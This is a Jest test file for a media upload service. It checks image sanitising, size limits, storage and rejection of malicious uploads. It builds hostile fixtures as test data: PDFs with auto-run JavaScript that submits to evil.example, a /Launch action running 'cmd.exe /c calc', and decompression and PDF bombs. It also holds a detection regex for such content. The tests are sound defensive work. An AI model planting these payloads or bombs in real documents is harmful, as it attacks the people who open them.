import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { monitorEventLoopDelay } from 'node:perf_hooks';
import { PDFDocument } from 'pdf-lib';
import sharp from 'sharp';
import { DEFAULT_MEDIA_LIMITS, type MediaLimits } from '../config.js';
import { AppError } from '../lib/errors.js';
import { createMediaService, discardAll, MediaService, originalUrl, sniffImage, variantUrl } from './media.service.js';
import { LocalDiskStorage, type MediaStorage } from './media.storage.js';
import { S3Storage } from './s3-storage.js';
import { startS3Server, type TestS3Server } from '../test/s3-server.js';
import { checkPdf, DEFAULT_PDF_CHECK_LIMITS } from './pdf-check.js';
import { inspectPdf } from './pdf-inspect.js';
import { readUpload } from './read-upload.js';
import type { FileUpload } from './upload.scalar.js';
import { deflatedSpaces, objectStreamBombPdf, PAGE_OBJECTS, rawPdf, streamObject } from '../test/pdf-fixtures.js';

/** An upload as graphql-upload-minimal hands it over; the name and type are whatever a client claims. */
function upload(bytes: Buffer | string, filename = 'photo.jpg', mimetype = 'image/jpeg'): FileUpload {
  const data = typeof bytes === 'string' ? Buffer.from(bytes) : bytes;
  return {
    filename,
    mimetype,
    fieldName: 'file',
    encoding: '7bit',
    createReadStream: () => Readable.from([data]) as unknown as ReturnType<FileUpload['createReadStream']>,
  };
}

async function refusal(work: Promise<unknown>): Promise<AppError> {
  try {
    await work;
  } catch (error) {
    expect(error).toBeInstanceOf(AppError);
    return error as AppError;
  }
  throw new Error('expected the upload to be refused');
}

/** Every file under a disk folder, relative to it; `all` counts the dotfiles too. */
function filesOnDisk(dir: string, { all = false } = {}): string[] {
  if (!existsSync(dir)) return [];
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile() && (all || !entry.name.startsWith('.')))
    .map((entry) => path.relative(dir, path.join(entry.parentPath, entry.name)))
    .sort();
}

const noise = (width: number, height: number) =>
  sharp(Buffer.from(Array.from({ length: width * height * 3 }, (_, i) => (i * 7919) % 251)), { raw: { width, height, channels: 3 } });

/** A 1000×700 JPEG whose EXIF says "rotate 90°" and carries a GPS position, like a phone photo. */
const phonePhoto = () =>
  noise(1000, 700)
    .jpeg()
    .withMetadata({ orientation: 6 })
    .withExif({
      IFD0: { Make: 'Phone', Copyright: 'someone' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '41/1 0/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '28/1 58/1 0/1' },
    })
    .toBuffer();

let dataDir: string;
let uploads: string;
let storage: MediaStorage;
let media: MediaService;
let s3: TestS3Server;
const service = (limits: Partial<MediaLimits> = {}) => new MediaService(storage, { ...DEFAULT_MEDIA_LIMITS, ...limits });

const STORAGES = [
  { name: 'the local disk', create: async (): Promise<MediaStorage> => new LocalDiskStorage(uploads) },
  { name: 'an S3 bucket (s3rver)', create: async (): Promise<MediaStorage> => new S3Storage(await s3.bucket()) },
];

beforeAll(async () => {
  s3 = await startS3Server();
});
afterAll(() => s3.close());

beforeEach(() => {
  dataDir = mkdtempSync(path.join(tmpdir(), 'dergi-media-'));
  uploads = path.join(dataDir, 'uploads');
  storage = new LocalDiskStorage(uploads);
  media = createMediaService({ dataDir, mediaLimits: DEFAULT_MEDIA_LIMITS });
});
afterEach(() => rmSync(dataDir, { recursive: true, force: true }));

const keyOf = (publicPath: string) => publicPath.replace(/^\/media\//, '');
/** The folder key of a stored path (`news/<id>-png/`). */
const folderOf = (publicPath: string) => keyOf(publicPath).replace(/[^/]+$/, '');
const stored = async (publicPath: string) => (await storage.read(keyOf(publicPath)))!;

/** Every file under a folder key, relative to it; `all` counts the dot-names too (pending marks, half-written files), which are never served. */
async function filesUnder(folder: string, { all = false } = {}): Promise<string[]> {
  const keys = (await storage.list(folder || undefined)).map((key) => key.slice(folder.length));
  return keys.filter((key) => all || !key.split('/').at(-1)!.startsWith('.'));
}

/** The same tests on each storage: what a reader or a record sees must not depend on where the files are. */
describe.each(STORAGES)('on $name', ({ create }) => {
  beforeEach(async () => {
    storage = await create();
    media = service();
  });

  describe('storeImage', () => {
    it('applies the EXIF orientation, strips metadata and writes WebP variants never wider than the source', async () => {
      const source = await phonePhoto();
      const before = await sharp(source).metadata();
      expect(before).toMatchObject({ width: 1000, height: 700, orientation: 6 });
      expect(before.exif).toBeDefined();

      const image = await media.storeImage(upload(source), { folder: 'news', field: 'poster' });

      expect(image.path).toMatch(/^\/media\/news\/[0-9a-f]{20}-jpg\/large\.webp$/);
      expect(image.originalPath).toBe(image.path.replace('large.webp', 'original.jpg'));
      expect(image.variants).toEqual({
        thumb: variantUrl(image.path, 'thumb'),
        small: variantUrl(image.path, 'small'),
        medium: variantUrl(image.path, 'medium'),
        large: image.path,
      });
      expect({ width: image.width, height: image.height }).toEqual({ width: 700, height: 1000 });

      expect(await filesUnder(folderOf(image.path))).toEqual(['large.webp', 'medium.webp', 'original.jpg', 'small.webp', 'thumb.webp']);

      const original = await sharp(await stored(image.originalPath)).metadata();
      expect(original).toMatchObject({ format: 'jpeg', width: 700, height: 1000 });
      expect(original.exif).toBeUndefined();
      expect(original.orientation).toBeUndefined();
      expect((await stored(image.originalPath)).includes(Buffer.from('GPS'))).toBe(false);

      const widths: Record<string, number> = {};
      for (const [size, url] of Object.entries(image.variants)) {
        const meta = await sharp(await stored(url)).metadata();
        expect(meta.format).toBe('webp');
        expect(meta.exif).toBeUndefined();
        widths[size] = meta.width!;
        // Portrait kept: the orientation was applied before resizing.
        expect(meta.height!).toBeGreaterThan(meta.width!);
      }
      expect(widths).toEqual({ thumb: 320, small: 640, medium: 700, large: 700 });
    });

    it('accepts PNG, WebP and GIF by their content, whatever the name, and keeps the original format', async () => {
      const png = await noise(50, 40).png().toBuffer();
      const webp = await noise(50, 40).webp().toBuffer();
      const gif = await noise(50, 40).gif().toBuffer();
      for (const [bytes, ext] of [
        [png, 'png'],
        [webp, 'webp'],
        [gif, 'gif'],
      ] as const) {
        const image = await media.storeImage(upload(bytes, 'named-wrong.txt', 'text/plain'), { folder: 'events', field: 'image' });
        expect(image.originalPath).toMatch(new RegExp(`^/media/events/[0-9a-f]{20}-${ext}/original\\.${ext}$`));
        expect(await sharp(await stored(image.originalPath)).metadata()).toMatchObject({ width: 50, height: 40 });
        expect(image.width).toBe(50);
      }
    });

    it('refuses a text file named x.png with 415 and writes nothing', async () => {
      const error = await refusal(media.storeImage(upload('just some text', 'x.png', 'image/png'), { folder: 'news', field: 'poster' }));
      expect(error.status).toBe(415);
      expect(error.code).toBe('UNSUPPORTED_MEDIA_TYPE');
      expect(error.fields).toEqual({ poster: 'Media.File.unsupported' });
      expect(await filesUnder('')).toEqual([]);
    });

    it('refuses a PNG signature followed by garbage with 415', async () => {
      const png = await noise(10, 10).png().toBuffer();
      const garbage = Buffer.concat([png.subarray(0, 8), Buffer.from('garbage '.repeat(20))]);
      expect(sniffImage(garbage)).toBe('png');
      const error = await refusal(media.storeImage(upload(garbage, 'x.png'), { folder: 'news', field: 'photos' }));
      expect(error.status).toBe(415);
      expect(error.fields).toEqual({ photos: 'Media.File.unsupported' });
    });

    it('refuses an image whose header reads but whose data does not decode with 415, and writes nothing', async () => {
      const jpeg = await noise(300, 300).jpeg().toBuffer();
      const truncated = jpeg.subarray(0, Math.floor(jpeg.length / 2));
      expect((await sharp(truncated).metadata()).width).toBe(300);
      const error = await refusal(media.storeImage(upload(truncated), { folder: 'news', field: 'poster' }));
      expect(error.status).toBe(415);
      expect(error.fields).toEqual({ poster: 'Media.File.unsupported' });
      expect(await filesUnder('')).toEqual([]);
    });

    it('refuses an image over the byte limit with 413', async () => {
      const jpeg = await noise(200, 200).jpeg().toBuffer();
      const small = service({ imageBytes: jpeg.length - 1 });
      const error = await refusal(small.storeImage(upload(jpeg), { folder: 'news', field: 'poster' }));
      expect(error.status).toBe(413);
      expect(error.code).toBe('PAYLOAD_TOO_LARGE');
      expect(error.fields).toEqual({ poster: 'Media.File.tooLarge' });
      expect((await service({ imageBytes: jpeg.length }).storeImage(upload(jpeg), { folder: 'news', field: 'poster' })).width).toBe(200);
    });

    it('refuses a decompression bomb (small file, 20000×20000 pixels) with 413 before decoding it', async () => {
      const bomb = await sharp({ limitInputPixels: false, create: { width: 20000, height: 20000, channels: 3, background: '#ffffff' } })
        .png({ compressionLevel: 9 })
        .toBuffer();
      expect(bomb.length).toBeLessThan(DEFAULT_MEDIA_LIMITS.imageBytes);
      const started = Date.now();
      const error = await refusal(media.storeImage(upload(bomb, 'bomb.png'), { folder: 'news', field: 'image' }));
      expect(error.status).toBe(413);
      expect(error.fields).toEqual({ image: 'Media.File.tooLarge' });
      expect(error.message).toMatch(/pixels/);
      expect(Date.now() - started).toBeLessThan(1000);
    });

    it('applies the configured pixel limit', async () => {
      const jpeg = await noise(100, 100).jpeg().toBuffer();
      expect((await refusal(service({ imagePixels: 9_999 }).storeImage(upload(jpeg), { folder: 'news', field: 'poster' }))).status).toBe(413);
      expect((await service({ imagePixels: 10_000 }).storeImage(upload(jpeg), { folder: 'news', field: 'poster' })).width).toBe(100);
    });
  });

  describe('storePdf', () => {
    it('stores a PDF that parses, as given', async () => {
      const doc = await PDFDocument.create();
      doc.addPage();
      const bytes = Buffer.from(await doc.save());
      const pdf = await media.storePdf(upload(bytes, 'issue.bin', 'application/octet-stream'), { folder: 'archive', field: 'preview' });
      expect(pdf.path).toMatch(/^\/media\/archive\/[0-9a-f]{20}\/preview\.pdf$/);
      expect((await stored(pdf.path)).equals(bytes)).toBe(true);
    });

    it('refuses what only starts like a PDF, and what is not one at all, with 415', async () => {
      for (const bytes of ['%PDF-1.7\n garbage that is not a document', 'hello', await noise(10, 10).png().toBuffer()]) {
        const error = await refusal(media.storePdf(upload(bytes, 'x.pdf', 'application/pdf'), { folder: 'archive', field: 'preview' }));
        expect(error.status).toBe(415);
        expect(error.fields).toEqual({ preview: 'Media.File.unsupported' });
      }
      expect(await filesUnder('')).toEqual([]);
    });

    it('refuses a PDF over its byte limit with 413', async () => {
      const doc = await PDFDocument.create();
      doc.addPage();
      const bytes = Buffer.from(await doc.save());
      const error = await refusal(service({ pdfBytes: 100 }).storePdf(upload(bytes), { folder: 'archive', field: 'preview' }));
      expect(error.status).toBe(413);
      expect(error.fields).toEqual({ preview: 'Media.File.tooLarge' });
    });
  });

  describe('active content in PDFs (T3-L6)', () => {
    const ACTIVE = /\/(OpenAction|AA|JavaScript|JS|Launch|SubmitForm)\b|#|app\.alert|cmd\.exe|evil\.example/;
    const store = async (pdf: Buffer) => {
      const pdfFile = await media.storePdf(upload(pdf, 'x.pdf', 'application/pdf'), { folder: 'archive', field: 'preview' });
      return stored(pdfFile.path);
    };

    it('removes an /OpenAction script, the document-level scripts (/Names /JavaScript) and a link running a script', async () => {
      const pdf = rawPdf([
        '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1); this.submitForm("https://evil.example/")) >> /Names << /JavaScript 5 0 R >> >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>',
        '<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /Java#53cript /JS 6 0 R >> >>',
        '<< /Names [(init) 7 0 R] >>',
        '<< /Length 12 >>\nstream\napp.alert(3)\nendstream',
        '<< /S /JavaScript /JS (app.alert(2)) >>',
      ]);
      expect(pdf.toString('latin1')).toMatch(ACTIVE);
      const stored = await store(pdf);
      expect(stored.toString('latin1')).not.toMatch(/\/(OpenAction|AA|JavaScript|JS)\b|app\.alert\(1|app\.alert\(2|evil\.example/);
      expect((await PDFDocument.load(stored)).getPageCount()).toBe(1);
    });

    it('removes a /Launch open action and the additional actions (/AA) of the catalog and the page', async () => {
      const pdf = rawPdf([
        '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> /AA << /WC << /S /URI /URI (https://evil.example/close) >> >> >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O << /S /URI /URI (https://evil.example/open) >> >> >>',
      ]);
      const stored = (await store(pdf)).toString('latin1');
      expect(stored).not.toMatch(ACTIVE);
      expect(stored).toMatch(/\/Type \/Catalog/);
    });

    it('stores a PDF without active content byte for byte, links to web pages included', async () => {
      const pdf = rawPdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>',
        '<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /URI /URI (https://dergi.example/) >> >>',
      ]);
      expect((await store(pdf)).equals(pdf)).toBe(true);
    });
  });

  describe('a full disk', () => {
    // The real full disk (a tmpfs) is in media-faults.test.ts; this double of the filesystem call
    // covers ENOSPC and EDQUOT where no tmpfs can be mounted.
    it.each(['ENOSPC', 'EDQUOT'])('answers %s while writing with 507 Media.Storage.full and leaves nothing', async (code) => {
      let writes = 0;
      const put = storage.put.bind(storage);
      storage.put = async (key: string, bytes: Buffer, contentType: string) => {
        if (++writes === 3) throw Object.assign(new Error(`${code}: no space left on device, write '/srv/data/uploads/x'`), { code });
        return put(key, bytes, contentType);
      };
      const full = new MediaService(storage, DEFAULT_MEDIA_LIMITS);
      const error = await refusal(full.storeImage(upload(await noise(64, 48).png().toBuffer()), { folder: 'news', field: 'poster' }));
      expect({ status: error.status, code: error.code, fields: error.fields }).toEqual({
        status: 507,
        code: 'INSUFFICIENT_STORAGE',
        fields: { poster: 'Media.Storage.full' },
      });
      expect(error.message).not.toMatch(/srv|ENOSPC|EDQUOT/);
      expect(await filesUnder('', { all: true })).toEqual([]);
    });
  });

  describe('removing files', () => {
    const image = async () => media.storeImage(upload(await noise(64, 48).png().toBuffer()), { folder: 'news', field: 'poster' });

    it('discard() and remove() leave no file of the upload', async () => {
      const first = await image();
      const second = await image();
      expect(await filesUnder('')).toHaveLength(10);
      await first.discard();
      await first.discard();
      expect((await filesUnder('')).every((file) => file.startsWith(folderOf(second.path)))).toBe(true);
      expect(await media.remove(variantUrl(second.path, 'thumb'))).toBe(true);
      expect(await filesUnder('')).toEqual([]);
    });

    it('remove() leaves paths that are not ours alone', async () => {
      const kept = await image();
      for (const other of [null, undefined, '', 'https://example.com/media/news/x.jpg', '/media/../secret.key', '/elsewhere/news/0123456789abcdef0123-jpg/large.webp']) {
        expect(await media.remove(other)).toBe(false);
      }
      expect(await filesUnder('')).toHaveLength(5);
      expect(await media.storage.exists(kept.path.replace(/^\/media\//, ''))).toBe(true);
    });

    it('withStoredFiles discards the new files when the database work fails, and removes replaced ones when it succeeds', async () => {
      const old = await image();
      const failing = await image();
      await expect(media.withStoredFiles([failing, undefined], async () => Promise.reject(new Error('db down')), { replaces: [old.path] })).rejects.toThrow(
        'db down',
      );
      expect((await storage.exists(keyOf(failing.path)))).toBe(false);
      expect((await storage.exists(keyOf(old.path)))).toBe(true);

      const replacement = await image();
      const marks = async () => (await filesUnder(folderOf(replacement.path), { all: true })).filter((name) => name.startsWith('.'));
      expect(await marks()).toEqual([expect.stringMatching(/^\.pending-/)]);
      const result = await media.withStoredFiles([replacement], async () => 'saved', { replaces: [old.path, null] });
      expect(result).toBe('saved');
      expect((await storage.exists(keyOf(old.path)))).toBe(false);
      expect((await storage.exists(keyOf(replacement.path)))).toBe(true);
      expect(await filesUnder('')).toHaveLength(5);
      expect(await marks()).toEqual([]);
    });

    it('storeImages stores all or none', async () => {
      const good = await noise(30, 30).png().toBuffer();
      const error = await refusal(media.storeImages([upload(good), upload(good), upload('not an image')], { folder: 'news', field: 'photos' }));
      expect(error.fields).toEqual({ photos: 'Media.File.unsupported' });
      expect(await filesUnder('')).toEqual([]);
      const stored = await media.storeImages([upload(good), upload(good)], { folder: 'news', field: 'photos' });
      expect(stored).toHaveLength(2);
      await discardAll(stored);
      expect(await filesUnder('')).toEqual([]);
    });
  });
});

describe('variantUrl and originalUrl', () => {
  const stored = '/media/news/0123456789abcdef0123-jpg/large.webp';

  it('swap the size segment, and give the original from the folder name', () => {
    expect(variantUrl(stored, 'thumb')).toBe('/media/news/0123456789abcdef0123-jpg/thumb.webp');
    expect(variantUrl(variantUrl(stored, 'thumb'), 'large')).toBe(stored);
    expect(originalUrl(stored)).toBe('/media/news/0123456789abcdef0123-jpg/original.jpg');
    expect(originalUrl('/media/events/0123456789abcdef0123-png/thumb.webp')).toBe('/media/events/0123456789abcdef0123-png/original.png');
  });

  it('refuse paths that are not stored images', () => {
    expect(() => variantUrl('/media/archive/0123456789abcdef0123/preview.pdf', 'thumb')).toThrow();
    expect(() => variantUrl('https://example.com/a.jpg', 'thumb')).toThrow();
  });
});

const MB = 1024 * 1024;

describe('PDF bombs (T3-M3)', () => {
  let objectStreamBomb: Buffer;
  let contentBomb: Buffer;
  beforeAll(async () => {
    // The review's pdfBomb(200): one object stream that inflates to 200 MB.
    objectStreamBomb = await objectStreamBombPdf(200);
    // A page content stream of 64 MB of spaces: pdf-lib would not inflate it on load, but a bound on every stream holds it too.
    contentBomb = rawPdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>',
      streamObject('/Filter /FlateDecode', await deflatedSpaces(64)),
    ]);
  }, 120_000);

  it('refuses an object stream that inflates to 200 MB with 415 Media.Pdf.tooComplex, and writes nothing', async () => {
    expect(objectStreamBomb.length).toBeLessThan(MB);
    const error = await refusal(media.storePdf(upload(objectStreamBomb, 'bomb.pdf', 'application/pdf'), { folder: 'archive', field: 'preview' }));
    expect(error.status).toBe(415);
    expect(error.fields).toEqual({ preview: 'Media.Pdf.tooComplex' });
    expect(filesOnDisk(uploads, { all: true })).toEqual([]);
  });

  it('stops inflating at the bound: the worker counts at most one zlib chunk past it, not the 200 MB', async () => {
    const result = await checkPdf(objectStreamBomb);
    expect(result.verdict).toBe('tooComplex');
    expect(result.inflatedBytes).toBeGreaterThan(DEFAULT_PDF_CHECK_LIMITS.maxObjectStreamBytes);
    expect(result.inflatedBytes).toBeLessThanOrEqual(DEFAULT_PDF_CHECK_LIMITS.maxObjectStreamBytes + 64 * 1024);

    const limits = { maxInflatedBytes: 16 * MB, maxObjectStreamBytes: 4 * MB };
    const content = await inspectPdf(contentBomb, limits);
    expect(content).toMatchObject({ verdict: 'tooComplex' });
    expect(content.inflatedBytes).toBeGreaterThan(limits.maxInflatedBytes);
    expect(content.inflatedBytes).toBeLessThanOrEqual(limits.maxInflatedBytes + 64 * 1024);
    // Under the bound the same document is fine: the bound, not the stream, refused it.
    expect(await inspectPdf(contentBomb, { maxInflatedBytes: 128 * MB, maxObjectStreamBytes: 4 * MB })).toMatchObject({ verdict: 'ok', pages: 1, inflatedBytes: 64 * MB });
  });

  it('refuses an object stream under a filter the scan cannot bound (LZW)', async () => {
    const pdf = rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', ...PAGE_OBJECTS, streamObject('/Type /Obj#53tm /N 1 /First 4 /Filter /LZWDecode', Buffer.from('x'))]);
    expect(await inspectPdf(pdf)).toMatchObject({ verdict: 'tooComplex' });
  });

  it('keeps the event loop free while the bomb is checked (max delay < 100 ms)', async () => {
    // Up to three checks, the quietest one counts: a check on the event loop would block it every
    // time (seconds for this bomb), while another process's burst on a shared machine does not recur.
    const maxDelays: number[] = [];
    for (let attempt = 0; attempt < 3 && !maxDelays.some((ms) => ms < 100); attempt++) {
      const delay = monitorEventLoopDelay({ resolution: 10 });
      delay.enable();
      const error = await refusal(media.storePdf(upload(objectStreamBomb, 'bomb.pdf', 'application/pdf'), { folder: 'archive', field: 'preview' }));
      delay.disable();
      expect(error.fields).toEqual({ preview: 'Media.Pdf.tooComplex' });
      maxDelays.push(delay.max / 1e6);
    }
    expect(Math.min(...maxDelays)).toBeLessThan(100);
  });

  it('ends a worker that runs out of time, and refuses its document', async () => {
    const limited = new MediaService(new LocalDiskStorage(uploads), DEFAULT_MEDIA_LIMITS, undefined, { ...DEFAULT_PDF_CHECK_LIMITS, timeoutMs: 1 });
    const error = await refusal(limited.storePdf(upload(objectStreamBomb, 'bomb.pdf', 'application/pdf'), { folder: 'archive', field: 'preview' }));
    expect(error.fields).toEqual({ preview: 'Media.Pdf.tooComplex' });
  });
});

describe('readUpload', () => {
  it('reads a whole upload, from a file or a promise of one', async () => {
    expect((await readUpload(upload('hello'), 5, 'file')).toString()).toBe('hello');
    expect((await readUpload(Promise.resolve(upload('hello')), 5, 'file')).toString()).toBe('hello');
  });

  it('aborts as soon as the limit is passed, without reading the rest of the stream', async () => {
    let produced = 0;
    const endless = new Readable({
      read() {
        produced += 64 * 1024;
        this.push(Buffer.alloc(64 * 1024));
      },
    });
    const file = { ...upload(''), createReadStream: () => endless as unknown as ReturnType<FileUpload['createReadStream']> };
    const error = await refusal(readUpload(file, 1024 * 1024, 'poster'));
    expect(error.status).toBe(413);
    expect(error.fields).toEqual({ poster: 'Media.File.tooLarge' });
    await new Promise((resolve) => setImmediate(resolve));
    expect(endless.destroyed).toBe(true);
    expect(produced).toBeLessThan(2 * 1024 * 1024);
  });

  it('answers 413 when the transport refuses the file as too large', async () => {
    // A transport that refuses a file past its limit (status 413) from createReadStream().
    const failing = {
      ...upload(''),
      createReadStream: (): never => {
        throw Object.assign(new Error('File truncated as it exceeds the byte size limit.'), { status: 413 });
      },
    };
    expect((await refusal(readUpload(failing, 100, 'image'))).fields).toEqual({ image: 'Media.File.tooLarge' });
  });
});
